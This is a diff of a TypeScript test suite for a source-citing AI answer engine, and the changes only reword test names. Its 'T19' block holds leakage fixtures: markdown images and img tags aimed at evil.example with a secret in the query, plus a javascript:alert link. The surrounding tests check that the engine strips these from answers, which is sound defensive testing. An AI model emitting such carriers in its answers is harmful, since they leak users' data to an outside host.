@@ -131,7 +131,7 @@ async function ask(engine = withProvider(), more: Partial<AiRequest> = {}): Prom
   return out;
 }
 
-describe('an answer of a provider', () => {
+describe('an answer from a provider', () => {
   it('streams with its citations', async () => {
     provider.script(
       speaks('Bees ', 'dance to tell of flo', 'wers [', '1]. No', 'thing else [77].'),
@@ -157,7 +157,7 @@ describe('an answer of a provider', () => {
     ]);
     expect(read.events.at(-1)).toBe('done');
   });
-  it('is asked with the passages fenced as data, and only with those of the selected sources', async () => {
+  it('is requested with fenced passages, and only with those of the selected sources', async () => {
     provider.script(speaks('x'));
     await ask(withProvider(), {
       question: 'What of honey bees, the canary and xyzzy?',
@@ -169,7 +169,7 @@ describe('an answer of a provider', () => {
     expect(prompt).not.toContain('canary word');
     expect(prompt).not.toContain('spring tides');
   });
-  it('that is cut off at its length says so', async () => {
+  it('tells that it was cut off at the length limit', async () => {
     provider.script((res) => {
       open(res).end([say('Bees dance'), chunk({}, 'length'), DONE].join(''));
     });
@@ -179,7 +179,7 @@ describe('an answer of a provider', () => {
       error: undefined,
     });
   });
-  it('that the filter stopped says so, or fails when there is nothing', async () => {
+  it('tells that a filter stopped it, or fails if there is no text', async () => {
     provider.script((res) => {
       open(res).end([say('Bees'), chunk({}, 'content_filter')].join(''));
     });
@@ -196,7 +196,7 @@ describe('an answer of a provider', () => {
     });
     expect(await ask()).toMatchObject({ text: '', error: { code: 'provider_failed' } });
   });
-  it('keeps what had arrived when it is interrupted', async () => {
+  it('keeps the text so far when it is interrupted', async () => {
     provider.script((res) => {
       open(res).end(say('Bees dance [1] and'));
     });
@@ -213,7 +213,7 @@ describe('an answer of a provider', () => {
     });
     expect(await ask()).toMatchObject({ text: 'Bees [', error: { code: 'interrupted' } });
   });
-  it('fails before its first word by the fault table', async () => {
+  it('fails before its first word as the table of faults says', async () => {
     provider.script(fails(401));
     expect(await ask()).toMatchObject({
       text: '',
@@ -243,7 +243,7 @@ describe('an answer of a provider', () => {
   });
 });
 
-describe('an answer that carries something out (T19)', () => {
+describe('an answer that tries to leak data (T19)', () => {
   const TO = 'https://evil.example/x?q=secret';
   const CARRIERS = [
     `![a](${TO})`,
@@ -273,7 +273,7 @@ describe('an answer that carries something out (T19)', () => {
     `<a href="javascript:alert(1)">x</a>`,
   ];
   const AROUND = ['So: X', '- a\n- X', '> X', '| a | b |\n|---|---|\n| ` | X | ` |', 'a ` b X'];
-  it('has no picture and no HTML that is alive, however it comes', async () => {
+  it('contains no image and no active HTML, in any syntax', async () => {
     const engine = withProvider();
     for (const around of AROUND) {
       const written = CARRIERS.map((it) => around.replace('X', () => it)).join('\n\n');
@@ -284,7 +284,7 @@ describe('an answer that carries something out (T19)', () => {
       expect(text).not.toMatch(/(?<!\\)<[a-z/!?]|!\[/i);
     }
   });
-  it('is not made offline either', async () => {
+  it('contains none either when the offline assistant writes it', async () => {
     await index.putTexts(ownerId, canvas, [
       'Honey bees dance on the canvas <img src="https://evil.example/x"> and ![bees](https://evil.example/y) tell where flowers are.',
     ]);
@@ -294,8 +294,8 @@ describe('an answer that carries something out (T19)', () => {
   });
 });
 
-describe('an answer that the sources do not carry', () => {
-  it('is followed by what comes nearest, in the language of the question', async () => {
+describe('an answer that the sources do not support', () => {
+  it('is followed by the nearest passages, in the language of the question', async () => {
     provider.script(speaks('The sources do not say who ', 'taught the bees to dance.'));
     const read = await ask();
     expect(read).toMatchObject({
@@ -311,7 +311,7 @@ describe('an answer that the sources do not carry', () => {
         .text,
     ).toContain('Am nächsten kommen diese Stellen:\n\n- ');
   });
-  it('but cites something, or says something else, stays as it is', async () => {
+  it('is unchanged if it has a citation or is not a refusal', async () => {
     provider.script(
       speaks('The passages do not say why, but bees dance to tell where flowers are [1].'),
     );
@@ -319,14 +319,14 @@ describe('an answer that the sources do not carry', () => {
     provider.script(speaks('Hello world.'));
     expect((await ask()).text).toBe('Hello world.');
   });
-  it('and does not cite it either, is followed by a refusal', async () => {
+  it('is followed by a refusal if it has no citations', async () => {
     provider.script(speaks('France won it.'));
     expect(
       (await ask(withProvider(), { question: 'Who won the football cup of the bees in Moscow?' }))
         .text,
     ).toMatch(/^France won it\.\n\nYour sources don't answer this\. The nearest passages/);
   });
-  it('shows as partly supported what shares little with its sentence, and what is not in the passage as it is quoted', async () => {
+  it('has partly supported citations where the passage shares little with the sentence or lacks the quotation', async () => {
     provider.script(
       speaks(
         'Honey bees were already kept for wax and mead by the monks of the northern abbeys [1]. One source says that "honey bees dance to tell where flowers are" [1].',
@@ -340,7 +340,7 @@ describe('an answer that the sources do not carry', () => {
 
 describe('a follow-up', () => {
   const history = [{ question: 'Why do honey bees dance?', answer: 'To tell of flowers [1].' }];
-  it('is searched for as a quick model rewrites it, and asked as it was put, after the turns before it', async () => {
+  it('is searched for as the quick model rewrites it, and sent as it was asked, after the previous turns', async () => {
     provider.script((res, call, n) =>
       (n === 1 ? speaks('When do spring tides come?') : speaks('At full moon [1].'))(res, call, n),
     );
@@ -365,7 +365,7 @@ describe('a follow-up', () => {
     );
     expect(read).toMatchObject({ text: expect.stringContaining('At full moon'), error: undefined });
   });
-  it('does without when the quick model fails, or there is none', async () => {
+  it('is not rewritten when the quick model fails or is missing', async () => {
     provider.script((res, call, n) =>
       (n === 1 ? fails(503) : speaks('To tell of flowers [1].'))(res, call, n),
     );
@@ -381,9 +381,9 @@ describe('a follow-up', () => {
   });
 });
 
-describe('a question after others', () => {
+describe('a follow-up that is complete in itself', () => {
   it.each(['Where do honey bees find flowers?', 'What is this about?'])(
-    'that leans on none is not rewritten: %j',
+    'is not rewritten: %j',
     async (question) => {
       provider.script(speaks('To tell of flowers [1].'));
       await ask(withProvider(), {
@@ -396,7 +396,7 @@ describe('a question after others', () => {
 });
 
 describe('the offline assistant', () => {
-  it('answers when no provider is set, and is labelled', async () => {
+  it('answers when no provider is set, and labels its answers', async () => {
     const read = await ask(offline());
     expect(read).toMatchObject({
       text: 'Honey bees dance to tell where flowers are. [1]',
@@ -411,14 +411,14 @@ describe('the offline assistant', () => {
       index: { 1: `2:${tides._id}` },
     });
   });
-  it('says so when nothing fits, and shows what is nearest', async () => {
+  it('says when nothing matches, and shows the nearest passages', async () => {
     const read = await ask(offline(), { question: 'Which parliament passed the budget?' });
     expect(read.text).toMatch(
       /^Your sources don't answer this\. The nearest passages, which may not answer it:\n\n- .+ \[1\]/,
     );
     expect(Object.keys(read.index).length).toBeGreaterThan(0);
   });
-  it('answers too when there is nothing at all to ask a provider with', async () => {
+  it('answers without the provider when no passage is found', async () => {
     provider.script(speaks('Made up.'));
     expect(await ask(withProvider(), { sources: [foreign] })).toMatchObject({
       text: "Your sources don't answer this.",
@@ -428,7 +428,7 @@ describe('the offline assistant', () => {
   });
 });
 
-describe('a title, the status, a ping', () => {
+describe('titles, status and ping', () => {
   const asked = (question: string): AiRequest => ({
     question,
     model: 3,
@@ -436,20 +436,20 @@ describe('a title, the status, a ping', () => {
     sources: [],
     signal: new AbortController().signal,
   });
-  it('is the model’s, tidied', async () => {
+  it('use a title of the model, tidied', async () => {
     provider.script(speaks('"How bees ', 'dance."\nMore'));
     expect(await withProvider().make(title, asked('why do bees dance'))).toMatchObject({
       value: 'How bees dance',
       model: 3,
     });
   });
-  it('is the offline assistant’s without a provider, or when the provider fails', async () => {
+  it('use a title of the offline assistant without a provider or when the provider fails', async () => {
     const made = { value: 'Why do bees dance', model: 'offline' };
     expect(await offline().make(title, asked('why do bees dance?'))).toMatchObject(made);
     provider.script(fails(500));
     expect(await withProvider().make(title, asked('why do bees dance?'))).toMatchObject(made);
   });
-  it('tells what there is', async () => {
+  it('report which assistant and models are available', async () => {
     expect(offline().status()).toMatchObject({ provider: false });
     expect(
       offline()
